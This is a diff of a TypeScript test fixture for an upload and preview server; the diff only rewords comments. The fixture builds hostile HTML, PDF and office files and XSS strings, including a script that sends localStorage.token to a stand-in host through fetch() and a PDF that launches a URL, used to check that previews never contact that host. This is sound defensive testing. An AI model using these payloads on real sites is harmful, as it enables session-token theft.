@@ -1,12 +1,12 @@
 import { gif, jpeg, ole, openDocument, openXml, png } from "#server/testing/sample-files.ts";
 import { fontPdf } from "./hostile-font.ts";
 
-/** Another host: nothing that is shown may ever ask it for anything. */
+/** Another host, to which no displayed file may send a request. */
 export const CANARY = "https://canari.example";
 
 const RUN = `window.parent.pwned=1;window.pwned=1;fetch('${CANARY}/jeton?'+localStorage.token)`;
 const HTML = `<!doctype html><html><body onload="${RUN}"><script>${RUN}</script><img src="${CANARY}/x.png" onerror="${RUN}"><svg onload="${RUN}"></svg></body></html>`;
-/** Markup that is not the first thing in a text: that one is refused. */
+/** Markup after a prefix: a text that begins with markup is refused. */
 const LATE_HTML = `Ordre du jour\n${HTML}\n`;
 
 const page = (catalog: string, more: string, resources = ""): string =>
@@ -15,7 +15,10 @@ const page = (catalog: string, more: string, resources = ""): string =>
 
 const action = (script: string) => `<</S/JavaScript/JS(${script})>>`;
 
-/** Runs by itself in readers that run scripts, as the browser's own does, in a box without page nor token: it asks for an address and sends what it can. */
+/**
+ * Scripts that PDF readers run, in the browser too, isolated from the page and its token: they send
+ * a request with what they find.
+ */
 const scriptedPdf = page(
   `/OpenAction${action(`app.launchURL\\("${CANARY}/pdf"\\);this.pwned=1`)}/AA<</WC${action("this.pwned=1")}>>/URI<</Base(${CANARY}/)>>`,
   `4 0 obj<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI(javascript:window.pwned=1)>>>>endobj\n` +
@@ -28,7 +31,7 @@ export interface HostileFile {
   data: Buffer;
 }
 
-/** Files of types that are accepted, each of which some program has run. */
+/** Files of accepted types, each of which some program has executed. */
 export const HOSTILE_FILES: HostileFile[] = [
   { name: "script.pdf", data: Buffer.from(scriptedPdf) },
   { name: "police.pdf", data: fontPdf(RUN) },
@@ -48,7 +51,7 @@ export const HOSTILE_FILES: HostileFile[] = [
   { name: "page.doc", data: Buffer.concat([ole, Buffer.from(HTML)]) },
 ];
 
-/** What is refused at the door, whatever it is called. */
+/** Files refused at upload, whatever their name. */
 export const REFUSED_FILES: HostileFile[] = [
   ...[
     "page.html",
@@ -70,7 +73,7 @@ export const REFUSED_FILES: HostileFile[] = [
   { name: "page.odt", data: openDocument("odt", [{ name: "page.html", data: HTML }]) },
 ];
 
-/** Texts that some page has run, or has made a link of; short enough for every field. */
+/** Texts that careless pages have run or turned into links; short enough for every field. */
 export const HOSTILE_TEXTS = [
   "<script>window.pwned=1</script>",
   "<img src=x onerror=window.pwned=1>",
